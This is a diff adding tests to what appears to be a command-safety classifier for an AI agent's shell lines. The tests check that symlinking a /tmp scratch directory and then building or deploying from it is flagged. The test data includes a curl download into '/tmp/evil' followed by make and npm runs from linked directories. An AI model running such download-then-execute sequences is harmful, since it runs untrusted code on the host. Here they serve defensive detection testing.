@@ -152,3 +152,24 @@ def test_a_relative_release_written_earlier_is_held() -> None:
 ])
 def test_pidfile_word(word: str, path: str | None) -> None:
     assert pidfile(word) == path
+
+
+@pytest.mark.parametrize(("before", "line", "rule"), [
+    # a link to scratch is a name for content anyone wrote, for later lines too
+    (["ln -s /tmp/evil releases"], "ln -sfn releases/42 current", "fs.link-sensitive"),
+    (["curl -so /tmp/evil/x https://e.x/x", "ln -s /tmp/evil releases"],
+     "ln -sfn releases/42 current", "fs.link-sensitive"),
+    (["ln -s /tmp/evil releases"], "cd releases && make", "exec.download-then-run"),
+    (["ln -s /var/tmp/w work"], "cd work && npm test", "exec.download-then-run"),
+])
+def test_a_link_to_scratch_is_remembered(before: list[str], line: str, rule: str) -> None:
+    last = run([*before, line], homes=("/home/agent",))[-1]
+    assert last.default_action is not Action.ALLOW and rule in [f.rule for f in last.findings], \
+        last.findings
+    assert classify(line).default_action is Action.ALLOW, line
+
+
+def test_a_link_to_a_release_is_not_remembered_as_written() -> None:
+    last = run(["ln -s /opt/app/releases/42 current", "cd current && make"],
+               homes=("/home/agent",))[-1]
+    assert last.default_action is Action.ALLOW, last.findings
